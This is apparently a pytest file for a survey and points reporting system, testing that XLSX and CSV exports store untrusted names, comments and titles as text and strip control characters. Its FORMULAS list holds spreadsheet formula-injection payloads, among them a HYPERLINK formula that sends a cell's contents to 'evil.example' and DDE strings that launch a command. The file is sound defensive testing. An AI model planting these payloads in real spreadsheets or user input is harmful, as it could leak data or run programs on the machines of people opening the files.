"""Names, comments and titles from outside never become formulas or break the workbook."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime, timedelta

from openpyxl import load_workbook
from sqlalchemy import update

from bot.i18n import translator
from scoring.periods import parse_period
from scoring.points.config import PointsConfig
from scoring.reports.cells import csv_cell, sheet_title
from scoring.reports.xlsx import build_workbook
from surveys.assessment.exports import load_export
from surveys.core.db import SessionFactory
from surveys.models import Community, Complaint, Owner, Response
from tests.fixtures.points_data import PointsData

WEEK = parse_period("2026-W47")
MONDAY = datetime(2026, 11, 16, 2, 0)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


async def _world(db: SessionFactory, agent_names: list[str], *, owner_name: str,
                 comment: str, complaint_text: str, community_name: str = "阳光花园") -> int:
    data = PointsData(db)
    community = await data.community("sunny", community_name)
    for i, name in enumerate(agent_names):
        agent = await data.agent(f"A{i:03d}", name, community)
        owner = await data.owner(community)
        when = MONDAY + timedelta(hours=i)
        order = await data.order(agent_id=agent, owner_id=owner, community_id=community,
                                 closed_at=when, sent_at=when, ratings=(1, 2, 1, 2))
        complaint = await data.complaint(agent_id=agent, owner_id=owner, opened_at=when,
                                         survey_id=order.survey_id,
                                         work_order_id=order.work_order_id)
        async with db() as s, s.begin():
            await s.exec(update(Owner).where(Owner.id == owner)  # type: ignore[call-overload]
                         .values(name=owner_name))
            await s.exec(update(Response)  # type: ignore[call-overload]
                         .where(Response.id == order.response_id).values(comment=comment))
            await s.exec(update(Complaint).where(Complaint.id == complaint)  # type: ignore[call-overload]
                         .values(text=complaint_text))
    async with db() as s, s.begin():
        await s.exec(update(Community).values(name=community_name))  # type: ignore[call-overload]
    return community


async def _workbook(db: SessionFactory, community_id: int | None = None) -> bytes:
    data = await load_export(db=db, period=WEEK, config=PointsConfig(), trend=False,
                             community_id=community_id)
    return build_workbook(data, translator("zh_CN")._)


def _formula_elements(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [name for name in z.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)]


async def test_no_name_comment_or_complaint_text_is_written_as_a_formula(
    db: SessionFactory,
) -> None:
    community = await _world(db, FORMULAS, owner_name=FORMULAS[0], comment=FORMULAS[1],
                             complaint_text=FORMULAS[3], community_name=FORMULAS[2])
    xlsx = await _workbook(db, community)
    assert _formula_elements(xlsx) == []
    book = load_workbook(io.BytesIO(xlsx))
    texts = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    texts[cell.value] = cell
    for text in FORMULAS:
        text = text.replace("\r", "\n")  # XML reads a CR back as LF
        assert text in texts, text  # kept as the person wrote it, only typed as text
        assert texts[text].quotePrefix, text  # editing the cell in Excel keeps it text


async def test_control_characters_are_dropped_instead_of_breaking_the_export(
    db: SessionFactory,
) -> None:
    await _world(db, ["王\u0007晓梅", "李\x01建\x1f国\ufffe"], owner_name="业主\x0b",
                 comment="太慢了\u001b[31m 差评", complaint_text="\x08投诉\x7f内容\x85")
    book = load_workbook(io.BytesIO(await _workbook(db)))
    values = {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row}
    assert {"王晓梅", "李建国", "业主", "太慢了[31m 差评", "投诉内容"} <= values
    assert {"王晓梅", "李建国"} <= set(book.sheetnames)


async def test_sheet_titles_are_valid_unique_and_never_start_like_a_formula(
    db: SessionFactory,
) -> None:
    names = ["=evil()", "+x", "'quoted'", "a/b:c*d?[e]\\f", "History", "Bob", "bob",
             "汇总", "长" * 40, "长" * 40, "\u0007", "-"]
    await _world(db, names, owner_name="x", comment="ok", complaint_text="ok")
    book = load_workbook(io.BytesIO(await _workbook(db)))
    titles = book.sheetnames
    assert len(titles) == len(names) + 6  # summary, responses, complaints, channels, times,
    # 回访率
    assert len({t.casefold() for t in titles}) == len(titles)
    for title in titles:
        assert 0 < len(title) <= 31 and not SHEET_FORBIDDEN.search(title), title
        assert not title.startswith(("=", "+", "-", "@", "'")) and not title.endswith("'")
        assert title.casefold() != "history"


def test_a_csv_cell_that_starts_like_a_formula_gets_an_apostrophe() -> None:
    assert [csv_cell(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert csv_cell("王晓梅\u0007") == "王晓梅"
    assert csv_cell(None) == "" and csv_cell(42) == "42" and csv_cell("a=b") == "a=b"


def test_a_sheet_title_made_only_of_forbidden_text_falls_back() -> None:
    used: set[str] = set()
    assert sheet_title("=\u0007'", used, fallback="客服") == "客服"
    assert sheet_title("客服", used) == "客服(2)"
